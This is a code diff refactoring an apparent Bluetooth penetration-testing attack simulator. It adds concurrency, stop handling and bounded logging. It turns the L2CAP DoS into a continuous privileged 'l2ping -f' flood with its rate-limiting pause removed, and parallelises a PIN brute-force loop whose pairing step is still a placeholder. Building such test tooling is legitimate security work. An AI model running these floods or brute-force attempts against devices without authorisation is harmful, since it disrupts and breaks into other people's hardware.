@@ -4,19 +4,56 @@ Attack simulator for Bluetooth security testing.
 Implements various attack scenarios including DoS, hijacking, and MITM.
 """
 
+import itertools
+import os
+import select
 import subprocess
 import threading
 import time
-from concurrent.futures import ThreadPoolExecutor
+from collections import deque
+from concurrent.futures import Future, ThreadPoolExecutor, as_completed
 from datetime import datetime
 from enum import Enum
-from typing import Any, Callable, Dict, List, Optional
+from functools import lru_cache
+from typing import Any, Callable, Deque, Dict, Iterator, Optional, Tuple
 
 from bt_sectester.utils.helpers import validate_mac_address
 from bt_sectester.utils.logger import LoggerMixin
 from bt_sectester.utils.privileges import PrivilegeManager
 
 
+# PIN candidates handed to the worker pool per round
+PIN_BATCH_SIZE = 64
+
+# Size of the four-digit PIN space
+PIN_SPACE_SIZE = 10000
+
+# Bytes read from l2ping's output per system call during a flood
+DOS_READ_SIZE = 64 * 1024
+
+# Trailing tshark stderr lines kept for a capture's result
+SNIFF_TAIL_LINES = 1000
+
+# Most recent error messages kept per attack; older ones survive only as counts
+MAX_RECORDED_ERRORS = 256
+
+# Suffix that keeps attack IDs unique when the same attack is repeated within a second
+_attack_sequence = itertools.count(1)
+
+
+@lru_cache(maxsize=1)
+def _four_digit_pins() -> Tuple[str, ...]:
+    """
+    Get every four-digit PIN as a zero-padded string.
+
+    Built once per process and sliced by each PIN bruteforce.
+
+    Returns:
+        PINs "0000" through "9999" in order
+    """
+    return tuple(f"{pin:04d}" for pin in range(PIN_SPACE_SIZE))
+
+
 class AttackType(Enum):
     """Enumeration of attack types."""
 
@@ -42,6 +79,21 @@ class AttackStatus(Enum):
 class AttackResult:
     """Container for attack results."""
 
+    __slots__ = (
+        "_duration_seconds",
+        "_end_iso",
+        "_error_counts",
+        "_start_iso",
+        "attack_id",
+        "attack_type",
+        "details",
+        "end_time",
+        "errors",
+        "start_time",
+        "status",
+        "target",
+    )
+
     def __init__(
         self,
         attack_type: AttackType,
@@ -61,43 +113,120 @@ class AttackResult:
         self.status = status
         self.start_time = datetime.utcnow()
         self.end_time: Optional[datetime] = None
+        # Serialized forms, computed once when the times are set
+        self._start_iso = self.start_time.isoformat()
+        self._end_iso: Optional[str] = None
+        self._duration_seconds: Optional[float] = None
         self.details: Dict[str, Any] = {}
-        self.errors: List[str] = []
+        self.errors: Deque[str] = deque(maxlen=MAX_RECORDED_ERRORS)
+        self._error_counts: Dict[str, int] = {}
+        # Set by AttackSimulator.execute_attack; keys the stop flag
+        self.attack_id: Optional[str] = None
 
     def mark_success(self, details: Optional[Dict[str, Any]] = None) -> None:
         """Mark attack as successful."""
         self.status = AttackStatus.SUCCESS
-        self.end_time = datetime.utcnow()
+        self._mark_ended()
         if details:
             self.details.update(details)
 
+    def mark_finished(self, details: Optional[Dict[str, Any]] = None) -> None:
+        """
+        Record a handler's final details, marking the attack successful
+        unless stop_attack already marked it stopped.
+
+        Args:
+            details: Final counters and outputs of the attack
+        """
+        if self.status is AttackStatus.STOPPED:
+            if details:
+                self.details.update(details)
+        else:
+            self.mark_success(details)
+
     def mark_failed(self, error: str) -> None:
         """Mark attack as failed."""
         self.status = AttackStatus.FAILED
-        self.end_time = datetime.utcnow()
+        self._mark_ended()
+        self.record_error(error)
+
+    def record_error(self, error: str) -> None:
+        """
+        Record an error without changing the attack status.
+
+        Args:
+            error: Error message
+        """
         self.errors.append(error)
+        # Group by the text before any ":" detail, e.g. "tshark failed"
+        kind = error.split(":", 1)[0]
+        self._error_counts[kind] = self._error_counts.get(kind, 0) + 1
 
     def mark_stopped(self) -> None:
         """Mark attack as stopped."""
         self.status = AttackStatus.STOPPED
+        self._mark_ended()
+
+    def _mark_ended(self) -> None:
+        """Record the end time and cache its serialized forms."""
         self.end_time = datetime.utcnow()
+        self._end_iso = self.end_time.isoformat()
+        self._duration_seconds = (self.end_time - self.start_time).total_seconds()
 
     def to_dict(self) -> Dict[str, Any]:
         """Convert to dictionary."""
         return {
+            "attack_id": self.attack_id,
             "attack_type": self.attack_type.value,
             "target": self.target,
             "status": self.status.value,
-            "start_time": self.start_time.isoformat(),
-            "end_time": self.end_time.isoformat() if self.end_time else None,
-            "duration_seconds": (
-                (self.end_time - self.start_time).total_seconds() if self.end_time else None
-            ),
+            "start_time": self._start_iso,
+            "end_time": self._end_iso,
+            "duration_seconds": self._duration_seconds,
             "details": self.details,
-            "errors": self.errors,
+            "errors": list(self.errors),
+            "error_summary": dict(self._error_counts),
         }
 
 
+class _AttackSlot:
+    """Per-attack bookkeeping: the result, its stop request, process and future."""
+
+    __slots__ = ("result", "stop_event", "process", "future")
+
+    def __init__(self, result: AttackResult):
+        """
+        Initialize attack slot.
+
+        Args:
+            result: Result object of the attack
+        """
+        self.result = result
+        self.stop_event = threading.Event()
+        # Long-running tool owned by the attack, terminated on stop so the
+        # handler's blocking read returns at once
+        self.process: Optional[subprocess.Popen] = None
+        self.future: Optional["Future[AttackResult]"] = None
+
+    def attach_process(self, process: subprocess.Popen) -> None:
+        """
+        Register the attack's process, terminating it if a stop already arrived.
+
+        Args:
+            process: Running process
+        """
+        self.process = process
+        if self.stop_event.is_set():
+            self.request_stop()
+
+    def request_stop(self) -> None:
+        """Set the stop flag and terminate the attack's process, if any."""
+        self.stop_event.set()
+        process = self.process
+        if process is not None and process.poll() is None:
+            process.terminate()
+
+
 class AttackSimulator(LoggerMixin):
     """Simulator for Bluetooth attacks."""
 
@@ -119,9 +248,14 @@ class AttackSimulator(LoggerMixin):
         self.ethical_mode = ethical_mode
         self.require_confirmation = require_confirmation
 
-        self.active_attacks: Dict[str, AttackResult] = {}
-        self._stop_flags: Dict[str, threading.Event] = {}
-        self._attack_threads: Dict[str, threading.Thread] = {}
+        # One slot per attack, keyed by attack_id
+        self._slots: Dict[str, _AttackSlot] = {}
+
+        # Bounded pool for execute_attack_async; attacks mostly wait on
+        # subprocesses and the radio, so allow more workers than cores
+        self._executor = ThreadPoolExecutor(
+            max_workers=(os.cpu_count() or 1) * 2, thread_name_prefix="bt-attack"
+        )
 
     def execute_attack(
         self,
@@ -144,6 +278,69 @@ class AttackSimulator(LoggerMixin):
         Returns:
             AttackResult object
 
+        Raises:
+            ValueError: If parameters are invalid
+        """
+        result = self._prepare_attack(attack_type, target, duration)
+        self._run_attack(result, duration, parameters or {}, callback)
+        return result
+
+    def execute_attack_async(
+        self,
+        attack_type: AttackType,
+        target: str,
+        duration: Optional[int] = None,
+        parameters: Optional[Dict[str, Any]] = None,
+        callback: Optional[Callable[[AttackResult], None]] = None,
+    ) -> "Future[AttackResult]":
+        """
+        Start an attack simulation on the simulator's worker pool.
+
+        The attack is registered, and can be stopped with stop_attack,
+        before this returns.
+
+        Args:
+            attack_type: Type of attack to simulate
+            target: Target MAC address
+            duration: Attack duration in seconds (None for indefinite)
+            parameters: Attack-specific parameters
+            callback: Optional callback for progress updates
+
+        Returns:
+            Future resolving to the AttackResult
+
+        Raises:
+            ValueError: If parameters are invalid
+        """
+        result = self._prepare_attack(attack_type, target, duration)
+        attack_id = result.attack_id
+
+        future = self._executor.submit(
+            self._run_attack, result, duration, parameters or {}, callback
+        )
+        slot = self._slots[attack_id]
+        slot.future = future
+        # The attack may already have finished (and released its slot) by now
+        future.add_done_callback(lambda _: setattr(slot, "future", None))
+        return future
+
+    def _prepare_attack(
+        self,
+        attack_type: AttackType,
+        target: str,
+        duration: Optional[int],
+    ) -> AttackResult:
+        """
+        Validate an attack request and register it as active.
+
+        Args:
+            attack_type: Type of attack to simulate
+            target: Target MAC address
+            duration: Attack duration in seconds
+
+        Returns:
+            Registered AttackResult with its attack_id set
+
         Raises:
             ValueError: If parameters are invalid
         """
@@ -152,7 +349,8 @@ class AttackSimulator(LoggerMixin):
 
         # Create result object
         result = AttackResult(attack_type, target)
-        attack_id = f"{attack_type.value}_{target}_{int(time.time())}"
+        attack_id = f"{attack_type.value}_{target}_{int(time.time())}_{next(_attack_sequence)}"
+        result.attack_id = attack_id
 
         self.logger.info(
             "Executing attack",
@@ -172,25 +370,48 @@ class AttackSimulator(LoggerMixin):
             # For now, we'll log it
 
         # Store attack
-        self.active_attacks[attack_id] = result
-        self._stop_flags[attack_id] = threading.Event()
+        self._slots[attack_id] = _AttackSlot(result)
+
+        return result
+
+    def _run_attack(
+        self,
+        result: AttackResult,
+        duration: Optional[int],
+        parameters: Dict[str, Any],
+        callback: Optional[Callable[[AttackResult], None]],
+    ) -> AttackResult:
+        """
+        Route a registered attack to its handler.
+
+        Args:
+            result: Result object from _prepare_attack
+            duration: Attack duration in seconds
+            parameters: Attack-specific parameters
+            callback: Optional callback for progress updates
+
+        Returns:
+            The updated result
+        """
+        attack_type = result.attack_type
+        target = result.target
 
         # Route to appropriate attack handler
         try:
             result.status = AttackStatus.RUNNING
 
             if attack_type == AttackType.DOS_FLOOD:
-                self._dos_flood(result, target, duration, parameters or {})
+                self._dos_flood(result, target, duration, parameters)
             elif attack_type == AttackType.DOS_JAM:
-                self._dos_jam(result, target, duration, parameters or {})
+                self._dos_jam(result, target, duration, parameters)
             elif attack_type == AttackType.DEAUTH:
-                self._deauth(result, target, parameters or {})
+                self._deauth(result, target, parameters)
             elif attack_type == AttackType.HIJACK:
-                self._hijack(result, target, parameters or {})
+                self._hijack(result, target, parameters)
             elif attack_type == AttackType.PIN_BRUTE:
-                self._pin_brute(result, target, parameters or {})
+                self._pin_brute(result, target, parameters)
             elif attack_type == AttackType.SNIFF:
-                self._sniff(result, target, duration, parameters or {})
+                self._sniff(result, target, duration, parameters)
             else:
                 result.mark_failed(f"Unknown attack type: {attack_type}")
 
@@ -207,14 +428,24 @@ class AttackSimulator(LoggerMixin):
             result.mark_failed(str(e))
 
         finally:
-            # Cleanup
-            if attack_id in self._stop_flags:
-                del self._stop_flags[attack_id]
-            if attack_id in self._attack_threads:
-                del self._attack_threads[attack_id]
+            # Keep the result for active_attacks, but not the finished tool
+            slot = self._slots[result.attack_id]
+            slot.process = None
+            slot.future = None
 
         return result
 
+    def shutdown(self) -> None:
+        """Signal all running attacks to stop and release the worker pool."""
+        for slot in list(self._slots.values()):
+            slot.request_stop()
+        self._executor.shutdown(wait=False)
+
+    @property
+    def active_attacks(self) -> Dict[str, AttackResult]:
+        """Results of all attacks started by this simulator, keyed by attack_id."""
+        return {attack_id: slot.result for attack_id, slot in self._slots.items()}
+
     def stop_attack(self, attack_id: str) -> bool:
         """
         Stop a running attack.
@@ -225,12 +456,11 @@ class AttackSimulator(LoggerMixin):
         Returns:
             True if stopped successfully
         """
-        if attack_id in self._stop_flags:
+        slot = self._slots.get(attack_id)
+        if slot is not None and slot.result.status in (AttackStatus.PENDING, AttackStatus.RUNNING):
             self.logger.info("Stopping attack", attack_id=attack_id)
-            self._stop_flags[attack_id].set()
-
-            if attack_id in self.active_attacks:
-                self.active_attacks[attack_id].mark_stopped()
+            slot.request_stop()
+            slot.result.mark_stopped()
 
             return True
 
@@ -254,61 +484,83 @@ class AttackSimulator(LoggerMixin):
         """
         self.logger.info("Starting L2CAP flood DoS", target=target)
 
-        count = params.get("count", 100)
+        count = params.get("count")
         packet_size = params.get("size", 600)
         timeout = params.get("timeout", 1)
 
-        start_time = time.time()
+        start = time.monotonic()
+        deadline = start + duration if duration else None
         packets_sent = 0
         errors = 0
 
+        slot = self._slots[result.attack_id]
+
+        # One long-running l2ping in flood mode (no wait between pings)
+        # instead of a privileged fork/exec per packet. It runs until the
+        # duration passes or the attack is stopped, unless a count is given.
+        command = ["l2ping", "-f", "-s", str(packet_size), "-t", str(timeout)]
+        if count is not None:
+            command.extend(["-c", str(count)])
+        command.append(target)
+
+        # Output is read as raw bytes in large chunks: l2ping prints a line
+        # per packet, and counting markers in whole chunks avoids decoding
+        # and dispatching every line in Python
+        proc = self.privilege_manager.spawn_privileged(
+            command,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.STDOUT,
+        )
+        slot.attach_process(proc)
+        stdout_fd = proc.stdout.fileno()
+        # Trailing partial line of the last chunk read
+        pending = b""
+
+        def count_lines(data: bytes) -> None:
+            # Reply lines ("N bytes from ...") and error lines ("Send
+            # failed", "no response from ...") never share a line
+            nonlocal packets_sent, errors
+            packets_sent += data.count(b" bytes from ")
+            errors += data.count(b"failed") + data.count(b"no response")
+
+        # Blocks until output arrives or the deadline passes; a stop
+        # terminates l2ping, which ends the read with EOF
         try:
             while True:
-                # Check stop flag
-                attack_id = f"{result.attack_type.value}_{target}_{int(result.start_time.timestamp())}"
-                if attack_id in self._stop_flags and self._stop_flags[attack_id].is_set():
-                    break
-
-                # Check duration
-                if duration and (time.time() - start_time) >= duration:
-                    break
-
-                # Execute l2ping
-                try:
-                    ret_code, stdout, stderr = self.privilege_manager.execute_privileged(
-                        [
-                            "l2ping",
-                            "-c",
-                            "1",
-                            "-s",
-                            str(packet_size),
-                            "-t",
-                            str(timeout),
-                            target,
-                        ],
-                        confirm=False,
-                    )
-
-                    if ret_code == 0:
-                        packets_sent += 1
-                    else:
-                        errors += 1
-
-                except Exception as e:
-                    errors += 1
-                    self.logger.debug("l2ping failed", error=str(e))
-
-                # Brief pause to avoid overwhelming
-                time.sleep(0.1)
+                wait = None
+                if deadline is not None:
+                    wait = deadline - time.monotonic()
+                    if wait <= 0:
+                        break
+
+                ready, _, _ = select.select([stdout_fd], [], [], wait)
+                if ready:
+                    chunk = os.read(stdout_fd, DOS_READ_SIZE)
+                    if not chunk:
+                        break
+                    pending += chunk
+                    complete = pending.rfind(b"\n") + 1
+                    if complete:
+                        count_lines(pending[:complete])
+                        pending = pending[complete:]
 
         except KeyboardInterrupt:
             self.logger.info("DoS flood interrupted by user")
         finally:
-            result.mark_success(
+            if proc.poll() is None:
+                proc.terminate()
+            try:
+                remaining, _ = proc.communicate(timeout=5)
+            except subprocess.TimeoutExpired:
+                proc.kill()
+                remaining, _ = proc.communicate()
+            count_lines(pending + (remaining or b""))
+
+            result.mark_finished(
                 {
                     "packets_sent": packets_sent,
                     "errors": errors,
-                    "duration_seconds": time.time() - start_time,
+                    "duration_seconds": time.monotonic() - start,
                 }
             )
 
@@ -374,6 +626,7 @@ class AttackSimulator(LoggerMixin):
             ret_code, stdout, stderr = self.privilege_manager.execute_privileged(
                 commands,
                 confirm=False,
+                stdout=subprocess.DEVNULL,
             )
 
             if ret_code == 0:
@@ -430,28 +683,70 @@ class AttackSimulator(LoggerMixin):
 
         max_attempts = params.get("max_attempts", 1000)
         start_pin = params.get("start_pin", 0)
+        workers = params.get("workers", 8)
 
+        slot = self._slots[result.attack_id]
+
+        end_pin = start_pin + max_attempts
+        pins: Iterator[str]
+        if 0 <= start_pin and end_pin <= PIN_SPACE_SIZE:
+            pins = iter(_four_digit_pins()[start_pin:end_pin])
+        else:
+            pins = (f"{pin:04d}" for pin in range(start_pin, end_pin))
         attempts = 0
-        for pin in range(start_pin, start_pin + max_attempts):
-            attempts += 1
+        found: Optional[str] = None
 
-            # Check stop flag
-            attack_id = f"{result.attack_type.value}_{target}_{int(result.start_time.timestamp())}"
-            if attack_id in self._stop_flags and self._stop_flags[attack_id].is_set():
-                break
+        # Pairing attempts are I/O-bound, so overlap them across workers,
+        # submitting a bounded batch at a time to keep stop checks responsive
+        with ThreadPoolExecutor(max_workers=workers) as pool:
+            while found is None:
+                if slot.stop_event.is_set():
+                    break
 
-            # Try pairing with PIN
-            pin_str = f"{pin:04d}"
+                batch = [
+                    pool.submit(self._try_pin, target, pin_str)
+                    for pin_str in itertools.islice(pins, PIN_BATCH_SIZE)
+                ]
+                if not batch:
+                    break
 
-            self.logger.debug("Trying PIN", pin=pin_str)
+                for future in as_completed(batch):
+                    attempts += 1
+                    pin_str = future.result()
+                    if pin_str is not None:
+                        found = pin_str
+                        break
+                    if slot.stop_event.is_set():
+                        break
+
+                if found is not None or slot.stop_event.is_set():
+                    for future in batch:
+                        future.cancel()
+
+        details: Dict[str, Any] = {"attempts": attempts, "found": found is not None}
+        if found is not None:
+            details["pin"] = found
+        result.mark_finished(details)
+        self.logger.info("PIN bruteforce completed", attempts=attempts, found=found is not None)
+
+    def _try_pin(self, target: str, pin_str: str) -> Optional[str]:
+        """
+        Attempt to pair with a device using one PIN.
 
-            # Actual implementation would use bluetoothctl or similar
-            # This is a placeholder
+        Args:
+            target: Target MAC address
+            pin_str: Four-digit PIN to try
 
-            time.sleep(0.1)  # Rate limiting
+        Returns:
+            The PIN if pairing succeeded, None otherwise
+        """
+        self.logger.debug("Trying PIN", pin=pin_str)
 
-        result.mark_success({"attempts": attempts, "found": False})
-        self.logger.info("PIN bruteforce completed", attempts=attempts)
+        # Actual implementation would use bluetoothctl or similar
+        # This is a placeholder for the pairing round-trip
+
+        time.sleep(0.1)  # Rate limiting
+        return None
 
     def _sniff(
         self,
@@ -491,16 +786,41 @@ class AttackSimulator(LoggerMixin):
 
             self.logger.info("Starting tshark capture", output=output_file)
 
-            ret_code, stdout, stderr = self.privilege_manager.execute_privileged(
+            slot = self._slots[result.attack_id]
+
+            # Only the tail of tshark's stderr is kept, so memory stays bounded
+            # however long the capture runs
+            proc = self.privilege_manager.spawn_privileged(
                 command,
-                confirm=False,
+                stdout=subprocess.DEVNULL,
+                stderr=subprocess.PIPE,
+                bufsize=1,
+                text=True,
             )
-
-            if ret_code == 0:
-                result.mark_success({"capture_file": output_file})
+            slot.attach_process(proc)
+            tail: Deque[str] = deque(maxlen=SNIFF_TAIL_LINES)
+
+            # Read until EOF: tshark exits on its own after the duration, or
+            # is terminated by stop_attack
+            try:
+                for line in proc.stderr:
+                    tail.append(line.rstrip("\n"))
+            finally:
+                # tshark finalizes the capture file on SIGTERM
+                if proc.poll() is None:
+                    proc.terminate()
+                try:
+                    _, remaining = proc.communicate(timeout=5)
+                except subprocess.TimeoutExpired:
+                    proc.kill()
+                    _, remaining = proc.communicate()
+                tail.extend((remaining or "").splitlines())
+
+            if proc.returncode == 0 or slot.stop_event.is_set():
+                result.mark_finished({"capture_file": output_file, "tshark_tail": list(tail)})
                 self.logger.info("Capture completed", output=output_file)
             else:
-                result.mark_failed(f"tshark failed: {stderr}")
+                result.mark_failed("tshark failed: " + "\n".join(tail))
 
         except Exception as e:
             result.mark_failed(str(e))